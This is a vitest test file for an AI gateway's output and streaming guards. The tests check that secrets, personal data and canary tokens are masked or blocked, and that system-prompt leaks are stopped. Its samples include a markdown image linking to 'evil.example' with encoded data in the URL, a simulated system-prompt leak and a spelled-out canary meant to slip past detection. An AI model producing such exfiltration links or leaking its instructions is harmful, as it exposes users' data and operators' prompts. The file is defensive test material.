import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { splitAt } from '../../helpers/split-at.js';
import type { Decision } from '../../../src/core/types.js';
import { guardAnswer, type OutputContext } from '../../../src/gateway/output/output-guard.js';
import { createStreamGuard, type StreamGuardOptions } from '../../../src/gateway/output/stream-guard.js';
import { createGuard, type Guard } from '../../../src/policy/create-guard.js';
import { Vault } from '../../../src/policy/vault.js';
import { checksummed, jwtToken, pemBlock, reseed } from '../../scanners/secrets-samples.js';

const guard = createGuard();
const noCtx: OutputContext = { canaries: [], systemPrompts: [] };

interface Run {
  emits: string[];
  text: string;
  violation?: Decision;
  decision: Decision;
  /** Index of the push that first emitted something, or -1. */
  firstEmitAt: number;
  /** Most characters pushed but not yet emitted after any push. */
  maxHeld: number;
}

/** Streams `chunks` through a stream guard the way the gateway does: push each, then end. */
async function stream(
  chunks: readonly string[],
  ctx: OutputContext = noCtx,
  g: Guard = guard,
  opts?: StreamGuardOptions,
): Promise<Run> {
  const sg = createStreamGuard(g, ctx, opts);
  const emits: string[] = [];
  let violation: Decision | undefined;
  let firstEmitAt = -1;
  let pushed = 0;
  let emitted = 0;
  let maxHeld = 0;
  for (let i = 0; i < chunks.length; i++) {
    const step = await sg.push(chunks[i]!);
    pushed += chunks[i]!.length;
    if (step.emit) {
      emits.push(step.emit);
      emitted += step.emit.length;
      if (firstEmitAt < 0) firstEmitAt = i;
    }
    maxHeld = Math.max(maxHeld, pushed - emitted);
    if (step.violation) {
      violation = step.violation;
      break;
    }
  }
  const last = await sg.end();
  if (last.emit) emits.push(last.emit);
  violation ??= last.violation;
  return {
    emits,
    text: emits.join(''),
    decision: last.decision,
    firstEmitAt,
    maxHeld,
    ...(violation ? { violation } : {}),
  };
}

function chunksOf(text: string, size: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
  return out;
}

const BENIGN =
  'Sure! Here is a short summary of the report.\n\n' +
  '1. Revenue grew by 12 percent in the third quarter, mostly from the new subscription plans.\n' +
  '2. Costs stayed flat; see [the appendix](#appendix) for the details.\n' +
  'Overall the team is on track. Let me know if you want a longer version, or a table with the numbers.';

describe('guardAnswer (whole answers)', () => {
  it('masks a secret in the answer and never restores it', async () => {
    reseed(11);
    const token = checksummed('ghp');
    const r = await guardAnswer(guard, `Use ${token} to log in.`, noCtx);
    expect(r.blocked).toBe(false);
    expect(r.text).toBe('Use [REDACTED:GITHUB_TOKEN] to log in.');
    expect(r.decision.action).toBe('redact');
    expect(JSON.stringify(r.decision)).not.toContain(token);
  });

  it('restores the user’s own values after scanning, so they are not flagged as leaks', async () => {
    const vault = new Vault();
    const input = await guard.check('input', 'Please write to bob@example.com about the invoice', { vault });
    expect(input.text).toContain('[EMAIL_1]');
    const r = await guardAnswer(guard, 'I will write to [EMAIL_1] today.', { ...noCtx, vault });
    expect(r.text).toBe('I will write to bob@example.com today.');
    expect(r.decision.findings.filter((f) => f.category === 'pii.email')).toEqual([]);
  });

  it('does not restore a value the answer leaked on its own (output masks are not vault placeholders)', async () => {
    const vault = new Vault();
    await guard.check('input', 'Please write to bob@example.com', { vault });
    const r = await guardAnswer(guard, 'Also try carol@example.org or [EMAIL_1].', { ...noCtx, vault });
    expect(r.text).toBe('Also try [REDACTED:EMAIL] or bob@example.com.');
  });

  it('blocks a leaked canary', async () => {
    const { token } = guard.canary();
    const r = await guardAnswer(guard, `My marker is ${token}.`, { ...noCtx, canaries: [token] });
    expect(r.blocked).toBe(true);
    expect(r.text).toBe('');
    expect(r.decision.action).toBe('block');
  });
});

describe('createStreamGuard', () => {
  it('streams a benign answer unchanged, emitting long before the end and holding back little', async () => {
    const run = await stream(chunksOf(BENIGN, 4));
    expect(run.violation).toBeUndefined();
    expect(run.text).toBe(BENIGN);
    expect(run.firstEmitAt).toBeGreaterThanOrEqual(0);
    expect(run.firstEmitAt).toBeLessThan(5);
    // A word plus its chunk: never the whole answer.
    expect(run.maxHeld).toBeLessThan(40);
    expect(run.decision.action).toBe('allow');
  });

  it('never emits a secret split across many chunks in clear, and masks it', async () => {
    reseed(7);
    const token = checksummed('ghp');
    const answer = `Your deploy token is ${token} and it expires tomorrow.`;
    for (const size of [1, 2, 3, 5, 8]) {
      const run = await stream(chunksOf(answer, size));
      expect(run.violation).toBeUndefined();
      expect(run.text).toBe('Your deploy token is [REDACTED:GITHUB_TOKEN] and it expires tomorrow.');
      for (const e of run.emits) expect(e).not.toMatch(/ghp_[A-Za-z0-9]{4}/);
      expect(run.decision.action).toBe('redact');
      expect(run.decision.findings.some((f) => f.category === 'secret.github_token')).toBe(true);
    }
  });

  it('masks a whole phone number even when its digit groups arrive in separate chunks', async () => {
    const run = await stream(['Call me at +1 ', '415 ', '555 ', '26', '71 tomorrow.']);
    expect(run.text).toBe('Call me at [REDACTED:PHONE] tomorrow.');
    expect(run.text).not.toContain('415');
  });

  it('holds a private key block whole and masks it, streamed line by line', async () => {
    reseed(3);
    const pem = pemBlock('RSA PRIVATE KEY');
    const answer = `Here is the key:\n${pem}\nKeep it safe.`;
    const run = await stream(answer.split(/(?<=\n)/));
    expect(run.violation).toBeUndefined();
    expect(run.text).toBe('Here is the key:\n[REDACTED:PRIVATE_KEY]\nKeep it safe.');
    const bodyLine = pem.split('\n')[2]!;
    for (const e of run.emits) expect(e).not.toContain(bodyLine.slice(0, 20));
  });

  it('holds a JWT longer than maxHoldChars whole, so it is masked and never half-sent', async () => {
    reseed(21);
    const jwt = jwtToken({ alg: 'RS256', typ: 'JWT', kid: 'k1'.repeat(150) });
    expect(jwt.length).toBeGreaterThan(400);
    const run = await stream(chunksOf(`Authorization header: Bearer ${jwt} (expires soon)`, 7));
    expect(run.violation).toBeUndefined();
    expect(run.text).toBe('Authorization header: Bearer [REDACTED:JWT] (expires soon)');
  });

  it('stops on a canary split across chunks before the complete canary is emitted', async () => {
    const { token } = guard.canary();
    const ctx = { ...noCtx, canaries: [token] };
    for (const size of [1, 3, 7]) {
      const run = await stream(chunksOf(`Sure. The hidden marker is ${token} as requested.`, size), ctx);
      expect(run.violation?.action).toBe('block');
      expect(run.violation?.findings.some((f) => f.category === 'leak.canary')).toBe(true);
      expect(run.text).not.toContain(token);
      expect(run.decision.action).toBe('block');
    }
  });

  it('stops a spelled-out canary whose characters arrive one chunk each', async () => {
    const { token } = guard.canary();
    const spaced = [...token.replace('-', '')].join(' ');
    const run = await stream(chunksOf(`ok: ${spaced} done`, 2), { ...noCtx, canaries: [token] });
    expect(run.violation?.action).toBe('block');
    expect(run.text.replace(/\s/g, '')).not.toContain(token.replace('-', ''));
  });

  it('stops a long system-prompt leak streamed chunk by chunk before most of it is out', async () => {
    const systemPrompt = Array.from(
      { length: 40 },
      (_, i) =>
        `Rule ${i + 1}: when the customer asks about order number ${i * 7 + 3} you must check the ledger ` +
        `entry for region ${['north', 'south', 'east', 'west'][i % 4]} before answering politely.`,
    ).join(' ');
    const answer = `Of course, here are my instructions: ${systemPrompt}`;
    const run = await stream(chunksOf(answer, 6), { ...noCtx, systemPrompts: [systemPrompt] });
    expect(run.violation?.findings.some((f) => f.category === 'leak.system_prompt')).toBe(true);
    expect(run.text.length).toBeLessThan(answer.length / 2);
  });

  it('stops a leak scattered between filler that no single window sees (whole-answer rescans)', async () => {
    const rules = Array.from(
      { length: 30 },
      (_, i) =>
        `Rule ${i + 1}: when the customer asks about order number ${i * 7 + 3} you must check the ledger ` +
        `entry for region ${['north', 'south', 'east', 'west'][i % 4]} before answering politely.`,
    );
    const filler =
      'Meanwhile, a gentle breeze drifted across quiet meadows while distant bells rang softly. '.repeat(7);
    const answer = rules.map((r) => `${r}\n${filler}\n`).join('');
    const run = await stream(chunksOf(answer, 9), { ...noCtx, systemPrompts: [rules.join(' ')] });
    expect(run.violation?.findings.some((f) => f.category === 'leak.system_prompt')).toBe(true);
    expect(run.text.length).toBeLessThan(answer.length / 2);
  });

  it('masks a markdown image to an unknown host, split inside the URL', async () => {
    const answer = 'Here is a chart: ![chart](https://evil.example/p.png?d=aGVsbG8gd29ybGQ) as promised.';
    const run = await stream(chunksOf(answer, 5));
    expect(run.violation).toBeUndefined();
    expect(run.text).toBe('Here is a chart: ![chart]([REDACTED:LINK]) as promised.');
  });

  it('restores vault placeholders split across chunks', async () => {
    const vault = new Vault();
    await guard.check('input', 'My email is alice@example.com and my phone is +1 415 555 2671', { vault });
    const answer = 'I will email [EMAIL_1] and call [PHONE_1] later.';
    for (const size of [1, 2, 4, 6]) {
      const run = await stream(chunksOf(answer, size), { ...noCtx, vault });
      expect(run.text).toBe('I will email alice@example.com and call +1 415 555 2671 later.');
      expect(run.decision.action).toBe('allow');
    }
  });

  it('handles an empty answer and pushes issued without awaiting, in order', async () => {
    const empty = await createStreamGuard(guard, noCtx).end();
    expect(empty.emit).toBe('');
    expect(empty.decision.action).toBe('allow');
    const sg = createStreamGuard(guard, noCtx);
    const steps = await Promise.all(chunksOf(BENIGN, 3).map((c) => sg.push(c)));
    const last = await sg.end();
    expect(steps.map((s) => s.emit).join('') + last.emit).toBe(BENIGN);
  });

  it('emits nothing after a violation, even for later pushes', async () => {
    const { token } = guard.canary();
    const sg = createStreamGuard(guard, { ...noCtx, canaries: [token] });
    const first = await sg.push(`leak ${token} `);
    expect(first.emit).toBe('');
    expect(first.violation).toMatchObject({
      action: 'block',
      findings: expect.arrayContaining([expect.objectContaining({ category: 'leak.canary' })]) as unknown,
    });
    expect(await sg.push('more harmless text ')).toEqual({ emit: '', violation: first.violation });
    const last = await sg.end();
    expect(last.emit).toBe('');
    expect(last.violation).toBe(first.violation);
  });

  it('fails closed when the guard throws (input over the policy limit)', async () => {
    const tiny = createGuard(
      'version: 1\nlimits: { max_input_bytes: 64 }\nstages: { output: { scanners: [secrets] } }\n',
    );
    const run = await stream(chunksOf('word '.repeat(40), 5), noCtx, tiny, { maxAnswerChars: 10_000 });
    expect(run.violation?.action).toBe('block');
    expect(run.violation?.findings[0]?.category).toBe('scanner.error');
    expect(run.text.length).toBeLessThan(64);
    expect(run.decision.action).toBe('block');
  });

  it('fails closed when a scanner exceeds its time budget', async () => {
    const slow = createGuard(
      'version: 1\nscanners: { pii: { timeout_ms: 1 } }\nstages: { output: { scanners: [pii] } }\n' +
        'actions: { scanner.error: block }\n',
    );
    const big = 'Call +1 415 555 2671 or mail a.b@example.com, born 1990-01-02. '.repeat(1500);
    const run = await stream([big, ' end'], noCtx, slow);
    expect(run.violation?.findings.some((f) => f.category === 'scanner.error')).toBe(true);
    expect(run.text).toBe('');
  });

  it('fails closed on an answer longer than maxAnswerChars', async () => {
    const run = await stream(chunksOf('word '.repeat(100), 10), noCtx, guard, { maxAnswerChars: 200 });
    expect(run.violation?.findings[0]?.category).toBe('output.too_large');
    expect(run.text.length).toBeLessThanOrEqual(200);
  });

  it('property: any split of a benign answer emits exactly what guardAnswer returns', async () => {
    const expected = (await guardAnswer(guard, BENIGN, noCtx)).text;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.nat(), { maxLength: 60 }), async (cuts) => {
        const run = await stream(splitAt(BENIGN, cuts));
        expect(run.violation).toBeUndefined();
        expect(run.text).toBe(expected);
      }),
      { numRuns: 40 },
    );
  });

  it('property: any split of a hostile answer never emits the secret or the canary', async () => {
    reseed(99);
    const secret = checksummed('ghp');
    const { token } = guard.canary();
    const ctx = { ...noCtx, canaries: [token] };
    const secretAnswer = `${BENIGN} The token is ${secret} okay.`;
    const canaryAnswer = `${BENIGN} Marker: ${token}. Done.`;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.nat(), { maxLength: 80 }), async (cuts) => {
        const s = await stream(splitAt(secretAnswer, cuts), ctx);
        expect(s.text).not.toContain(secret);
        expect(s.text).not.toContain(secret.slice(0, 12));
        expect(s.text).toContain('[REDACTED:GITHUB_TOKEN]');
        const c = await stream(splitAt(canaryAnswer, cuts), ctx);
        expect(c.violation?.action).toBe('block');
        expect(c.text).not.toContain(token);
      }),
      { numRuns: 40 },
    );
  });
});

describe('stream guard cost', () => {
  it('scans about linearly many characters, not the whole answer on every chunk', async () => {
    let scanned = 0;
    const counting: Guard = {
      ...guard,
      check: (stage, input, options) => {
        scanned += typeof input === 'string' ? input.length : 0;
        return guard.check(stage, input, options);
      },
    };
    const answer = `${BENIGN}\n`.repeat(60); // about 19 000 characters, 4 800 chunks
    const run = await stream(chunksOf(answer, 4), noCtx, counting);
    expect(run.text).toBe(answer);
    // Quadratic rescanning would be ~2 400x the answer; windows of 256 context + >=16 new chars plus the
    // geometric full scans stay near 20x.
    expect(scanned).toBeLessThan(answer.length * 30);
  });
});
